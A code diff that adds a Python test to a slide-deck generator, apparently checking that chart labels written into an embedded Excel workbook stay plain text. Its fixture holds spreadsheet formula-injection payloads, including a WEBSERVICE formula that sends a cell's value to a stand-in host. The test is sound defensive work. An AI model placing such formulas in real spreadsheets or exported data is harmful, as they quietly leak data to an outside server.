@@ -146,3 +146,23 @@ def test_the_drawing_of_a_page_says_its_title_and_all_its_words(kind: ChartKind)
     assert any("Nord" in (text or "") for text in said) and any("40" in (text or "") for text in said)
     for node in root.iter(f"{space}text"):
         assert 0 <= float(node.get("x", "-1")) <= drawing.width and 0 <= float(node.get("y", "-1")) <= drawing.height
+
+
+def test_words_of_a_chart_never_become_formulas_or_links_of_its_workbook() -> None:
+    import io
+    import zipfile
+
+    from coursegen.slides_model import ChartKind, Series
+
+    hostile = Chart(
+        kind=ChartKind.BARS,
+        categories=('=WEBSERVICE("http://x.example/?"&A1)', "http://x.example/a"),
+        series=(Series('=HYPERLINK("http://x.example")', (1.0, 2.0)),),
+        alt="Deux barres",
+    )
+    shown = drawn_deck(slide("c", SlideKind.CONTENT, "Les retards reculent", hostile)).slides[0]
+    book = zipfile.ZipFile(io.BytesIO(graphic(shown).chart.part.chart_workbook.xlsx_part.blob))
+    parts = {name: book.read(name).decode("utf-8") for name in book.namelist()}
+    assert not [name for name, text in parts.items() if "<f>" in text or "<hyperlink" in text]
+    assert "WEBSERVICE" in parts["xl/sharedStrings.xml"], "the words are there, as words"
+    assert "Microsoft Excel" not in "".join(parts.values())
